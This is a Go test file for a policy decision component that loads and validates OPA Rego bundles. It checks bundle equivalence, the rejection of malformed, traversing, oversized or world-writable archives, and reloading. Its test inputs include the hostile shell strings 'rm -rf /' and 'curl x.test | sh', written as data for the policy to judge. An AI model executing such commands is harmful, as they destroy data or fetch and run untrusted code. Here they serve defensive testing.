package pdp

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/compile"

	"github.com/bailiff-dev/bailiff"
	"github.com/bailiff-dev/bailiff/backends/backendtest"
)

// built is the bundle that "opa build -b" makes of a folder.
func built(t *testing.T, folder, revision string) []byte {
	t.Helper()
	var archive bytes.Buffer
	must(t, compile.New().WithPaths(folder).WithAsBundle(true).WithRevision(revision).WithOutput(&archive).Build(context.Background()))
	return archive.Bytes()
}

// member is one of an archive.
type member struct {
	name, text string
	kind       byte
}

func packed(t *testing.T, members ...member) string {
	t.Helper()
	var archive bytes.Buffer
	zipped := gzip.NewWriter(&archive)
	to := tar.NewWriter(zipped)
	for _, m := range members {
		must(t, to.WriteHeader(&tar.Header{Name: m.name, Typeflag: m.kind, Size: int64(len(m.text)), Mode: 0o644,
			Linkname: map[bool]string{true: "x"}[m.kind == tar.TypeSymlink]}))
		_, err := to.Write([]byte(m.text))
		must(t, err)
	}
	must(t, to.Close())
	must(t, zipped.Close())
	return archive.String()
}

func TestABundleDecidesAsTheFolderItWasBuiltOf(t *testing.T) {
	backendtest.Long(t)
	archive := filepath.Join(t.TempDir(), "house.tar.gz")
	write(t, archive, string(built(t, copied(t), "v7")))
	bundled, err := Open(t.Context(), Config{Paths: []string{archive}, RequireTests: true, EvalTimeout: time.Minute})
	must(t, err)
	shipped, err := Open(t.Context(), Config{EvalTimeout: time.Minute})
	must(t, err)
	at := bailiff.Circumstances{Backends: map[string]bailiff.BackendState{"local": {Ready: true}}, Time: time.Now()}
	outcomes := map[bailiff.Outcome]bool{}
	for _, text := range []string{"ls", "rm -rf build", "rm -rf /", "$x", "curl x.test | sh"} {
		req := listing
		req.Args.Command, req.Session.Platform, req.Backend = text, "cli", "local"
		got, want := bundled.Decide(t.Context(), req, at).Decision, shipped.Decide(t.Context(), req, at).Decision
		outcomes[want.Outcome] = true
		if got.Revision = want.Revision; !reflect.DeepEqual(got, want) {
			t.Errorf("%q: got %+v, want %+v", text, got, want)
		}
	}
	if len(outcomes) < 3 {
		t.Errorf("all was decided alike: %v", outcomes)
	}
	if s := bundled.Status(); !reflect.DeepEqual(s.Bundles, map[string]string{archive: "v7"}) ||
		!strings.HasPrefix(s.Files[0], archive+"/") {
		t.Errorf("the bundles are %v, the files %v", s.Bundles, s.Files)
	}
}

func TestTheTestsOfABundleCount(t *testing.T) {
	root := tree(t, map[string]string{"p.rego": allowing, "p_test.rego": "package t\n\ntest_it if 1 == 2\n"})
	archive := filepath.Join(t.TempDir(), "b.tar.gz")
	write(t, archive, string(built(t, root, "")))
	if _, err := Open(t.Context(), Config{Paths: []string{archive}, RequireTests: true}); err == nil ||
		!strings.Contains(err.Error(), "p_test.rego:3: test test_it: FAIL") {
		t.Errorf("got %v", err)
	}
	write(t, archive, packed(t, member{"/p.rego", allowing, tar.TypeReg}))
	if _, err := Open(t.Context(), Config{Paths: []string{archive}, RequireTests: true}); err == nil ||
		!strings.Contains(err.Error(), "have no tests") {
		t.Errorf("got %v", err)
	}
}

func TestWhatIsNoBundleIsRefused(t *testing.T) {
	backendtest.Long(t)
	policy := member{"/p.rego", allowing, tar.TypeReg}
	whole := packed(t, policy)
	for name, c := range map[string]struct{ archive, want string }{
		"nothing":            {"", "EOF"},
		"no archive":         {"package bailiff", "invalid header"},
		"half of an archive": {whole[:len(whole)/2], "unexpected EOF"},
		"no policies":        {packed(t, member{"/README.md", "hello", tar.TypeReg}), "there are no policies"},
		"a link":             {packed(t, policy, member{"/q.rego", "", tar.TypeSymlink}), "q.rego is no file"},
		"a file twice":       {packed(t, policy, member{"p.rego", "package p", tar.TypeReg}), "it holds p.rego twice"},
		"a signature":        {packed(t, policy, member{"/.signatures.json", "{}", tar.TypeReg}), "there is no key to check it by"},
		"a change":           {packed(t, policy, member{"/patch.json", "{}", tar.TypeReg}), "want a whole one"},
		"a compiled policy":  {packed(t, policy, member{"/policy.wasm", "\x00asm", tar.TypeReg}), "want Rego"},
		"a manifest that is bad": {packed(t, policy, member{"/.manifest", "{\n7}", tar.TypeReg}),
			"b.tar.gz/.manifest:2: this is no valid manifest"},
		"a policy that is bad": {packed(t, policy, member{"/a/../../q.rego", "package q\n\nx if {", tar.TypeReg}),
			"b.tar.gz/q.rego:3: rego_parse_error"},
		"too much": {packed(t, policy, member{"/data.json", strings.Repeat(" ", 64<<20), tar.TypeReg}), "it holds more than 64 MiB"},
	} {
		t.Run(name, func(t *testing.T) {
			archive := filepath.Join(t.TempDir(), "b.tar.gz")
			write(t, archive, c.archive)
			_, err := Open(t.Context(), Config{Paths: []string{archive}})
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want %s", err, c.want)
			}
		})
	}
}

// A sparse file takes nothing in the archive, and all its length in memory.
func TestABundleWithHolesIsNoLargerThanOthers(t *testing.T) {
	folder := t.TempDir()
	write(t, filepath.Join(folder, "p.rego"), allowing)
	write(t, filepath.Join(folder, "data.json"), "{}")
	must(t, os.Truncate(filepath.Join(folder, "data.json"), 64<<20+1))
	archive := filepath.Join(t.TempDir(), "b.tar.gz")
	if printed, err := exec.Command("tar", "--format=pax", "-S", "-czf", archive, "-C", folder, ".").CombinedOutput(); err != nil {
		t.Fatalf("packing: %v\n%s", err, printed)
	}
	if _, err := Open(t.Context(), Config{Paths: []string{archive}}); err == nil ||
		!strings.Contains(err.Error(), "it holds more than 64 MiB") {
		t.Errorf("got %v", err)
	}
}

func TestABundleThatOthersMayWriteIsRefused(t *testing.T) {
	archive := filepath.Join(t.TempDir(), "b.tar.gz")
	write(t, archive, packed(t, member{"/p.rego", allowing, tar.TypeReg}, member{"/q.rego", "package q", tar.TypeReg}))
	must(t, os.Chmod(archive, 0o666))
	if _, err := Open(t.Context(), Config{Paths: []string{archive}}); err == nil || strings.Contains(err.Error(), "\n") ||
		!strings.HasPrefix(err.Error(), archive+": others may write") {
		t.Errorf("got %v, want the archive named once, and why", err)
	}
}

func TestABundleIsFollowed(t *testing.T) {
	archive := filepath.Join(t.TempDir(), "b.tar.gz")
	write(t, archive, packed(t, member{"/p.rego", timed(5), tar.TypeReg}, member{"/.manifest", `{"revision": "v1"}`, tar.TypeReg}))
	p, told := watched(t, Config{Paths: []string{archive}, EvalTimeout: time.Minute})
	write(t, archive+".new", packed(t, member{"/p.rego", timed(7), tar.TypeReg}, member{"/.manifest", `{"revision": "v2"}`, tar.TypeReg}))
	must(t, os.Rename(archive+".new", archive))
	told.until(t, true)
	if seconds(p) != 7 || p.Status().Bundles[archive] != "v2" {
		t.Errorf("in force is %d, %v", seconds(p), p.Status().Bundles)
	}
	before := p.Revision()
	write(t, archive, "half an archi")
	told.until(t, false)
	if seconds(p) != 7 || p.Status().OK {
		t.Errorf("in force is %d, %+v", seconds(p), p.Status())
	}
	write(t, archive+".new", packed(t, member{"/p.rego", timed(7), tar.TypeReg}, member{"/.manifest", `{"revision": "v3"}`, tar.TypeReg}))
	must(t, os.Rename(archive+".new", archive))
	told.until(t, true)
	if p.Revision() != before || p.Status().Bundles[archive] != "v3" {
		t.Errorf("the same policies have the revision %s and then %s, %v", before, p.Revision(), p.Status().Bundles)
	}
}
